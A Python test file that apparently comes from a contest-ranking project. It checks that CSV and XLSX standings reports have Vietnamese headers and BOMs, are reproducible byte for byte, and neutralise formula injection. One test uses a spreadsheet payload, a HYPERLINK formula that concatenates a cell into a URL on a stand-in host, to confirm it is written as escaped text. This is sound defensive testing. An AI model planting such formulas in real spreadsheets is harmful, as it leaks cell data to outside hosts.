"""Organisers' reports: CSV that Excel reads as Vietnamese, XLSX that repeats byte for byte."""

from __future__ import annotations

import csv
import io
import time
import zipfile
from datetime import datetime

from openpyxl import load_workbook

from contest.close.reports import STANDINGS_HEADER, final_workbook, standings_csv, units_csv, week_workbook
from contest.rules.publication import week_review
from contest.rules.ranking import RankingRules, aggregate_units, rank_final_units, rank_week
from tests.unit.test_publication import CONTEST, UNITS, people

FIXED = datetime(2023, 10, 22, 13, 0, 0)


def ranked():
    records = people([f"+8491234{i:04d}" for i in range(25)])
    ranking = rank_week(records, RankingRules.from_contest(CONTEST), excluded={"01HF-000003"})
    return ranking, aggregate_units(ranking, UNITS)


def test_csv_has_a_bom_vietnamese_headers_and_one_row_per_ranked_entry():
    ranking, units = ranked()
    data = standings_csv(ranking, UNITS)
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert tuple(rows[0]) == STANDINGS_HEADER and len(rows) == 1 + len(ranking)
    assert rows[1][0] == "1" and rows[1][12] == "Giải Nhất"
    assert "01HF-000003" not in data.decode()
    assert units_csv(units).decode("utf-8-sig").splitlines()[0].startswith("Mã đơn vị,Đơn vị,Khối")


def test_the_workbook_is_byte_identical_across_runs_and_has_the_four_sheets():
    ranking, units = ranked()
    review = week_review(CONTEST, ranking, UNITS)
    first = week_workbook(ranking, units, UNITS, review, FIXED)
    time.sleep(1.1)  # zip timestamps have a two-second grain; openpyxl stamps "modified" with now
    second = week_workbook(ranking, units, UNITS, review, FIXED)
    assert first == second
    with zipfile.ZipFile(io.BytesIO(first)) as z:
        assert {i.date_time for i in z.infolist()} == {(2020, 1, 1, 0, 0, 0)}
        assert b"2023-10-22T13:00:00Z" in z.read("docProps/core.xml")
    book = load_workbook(io.BytesIO(first), read_only=True)
    assert book.sheetnames == ["Tổng hợp theo đơn vị", "Chi tiết cá nhân", "Đồng hạng và cờ rà soát", "Xác nhận giải"]
    detail = list(book["Chi tiết cá nhân"].iter_rows(values_only=True))
    assert detail[0] == STANDINGS_HEADER and len(detail) == 1 + len(ranking)
    summary = list(book["Tổng hợp theo đơn vị"].iter_rows(values_only=True))
    assert [r[0] for r in summary[1:]] == ["u1", "u2"]


def test_final_workbook_repeats_too():
    _, units = ranked()
    rows = rank_final_units([units], CONTEST.final_formula, 15, CONTEST.final_unit_prizes)
    assert final_workbook(rows, CONTEST.final_unit_prizes, FIXED) == final_workbook(
        rows, CONTEST.final_unit_prizes, FIXED
    )


def test_every_sheet_and_csv_holds_formula_like_unit_names_as_text():
    # Given a unit whose name (from the organisers' content) starts like a formula
    from contest.rules.model import Unit

    hostile = '=HYPERLINK("http://x"&B2,"x")'
    units_in = (Unit("u1", hostile, "g", 50), UNITS[1])
    records = people([f"+8491234{i:04d}" for i in range(25)])
    ranking = rank_week(records, RankingRules.from_contest(CONTEST), excluded=set())
    unit_rows = aggregate_units(ranking, units_in)
    review = week_review(CONTEST, ranking, units_in)
    final_rows = rank_final_units([unit_rows], CONTEST.final_formula, 15, CONTEST.final_unit_prizes)
    # When every report is written
    books = [
        week_workbook(ranking, unit_rows, units_in, review, FIXED),
        final_workbook(final_rows, CONTEST.final_unit_prizes, FIXED),
    ]
    # Then no cell of any sheet is a formula and the name is a text starting with the apostrophe
    for data in books:
        book = load_workbook(io.BytesIO(data))
        cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        assert "'" + hostile in [c.value for c in cells]
    for data in (standings_csv(ranking, units_in), units_csv(unit_rows)):
        fields = [v for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for v in row]
        assert "'" + hostile in fields and hostile not in fields
